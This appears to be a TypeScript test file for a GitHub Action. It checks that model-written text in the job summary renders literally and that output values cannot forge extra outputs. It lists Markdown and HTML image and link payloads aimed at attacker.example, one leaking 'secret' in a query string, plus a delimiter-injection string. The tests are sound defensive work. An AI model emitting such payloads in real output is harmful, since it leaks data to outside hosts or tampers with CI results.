/** The Action's job summary shows what the model wrote as text: Markdown renders it literally, with nothing that loads or links. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import MarkdownIt from 'markdown-it';
import { plainText } from '../../src/action/summary';
import { readOutputs } from '../support/action';
import { writeOutputs } from '../../src/action/githubFiles';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';

const HOSTILE = [
  '![x](http://attacker.example/?q=secret)',
  '\\![x](http://attacker.example/a.png)',
  '`![x](http://attacker.example/b.png)`',
  '<img src="http://attacker.example/c.png">',
  '[docs]: http://attacker.example/d\n\n[docs]',
  '<http://attacker.example/e>',
  '    ![x](http://attacker.example/f.png)',
  '*a* **b** `c` # d | e\n- f\n1. g',
  '&lt;img src=x&gt; &#33;[x](http://attacker.example/g.png)',
];

/** What a reader sees: the rendered HTML's text, entities decoded. */
function visibleText(html: string): string {
  return html
    .replace(/<br>\n?/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&')
    .trim();
}

describe("the Action's job summary", () => {
  test('model text renders literally: no image, no link, no HTML, every character shown as written', () => {
    for (const markdown of [new MarkdownIt(), new MarkdownIt({ html: true, linkify: true })]) {
      for (const text of HOSTILE) {
        const html = markdown.render(plainText(text));
        assert.doesNotMatch(html, /<img|<a |<h1|<em|<code|<li/, `${text} → ${html}`);
        assert.equal(visibleText(html).replace(/\n+/g, '\n'), text.replace(/\n+/g, '\n').replace(/^ +/gm, ''), text);
      }
    }
  });

  test('an output whose value holds a delimiter-like line cannot end early or forge another output', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stepwise-outputs-'));
    const file = path.join(dir, 'out');
    fs.writeFileSync(file, '');
    const forged = 'ok\nEOF\nstatus<<EOF\nfinished\nEOF\nghadelimiter_x';
    writeOutputs({ GITHUB_OUTPUT: file }, { summary: forged, status: 'failed' });
    assert.deepEqual(readOutputs(fs.readFileSync(file, 'utf8')), { summary: forged, status: 'failed' });
    fs.rmSync(dir, { recursive: true, force: true });
  });
});
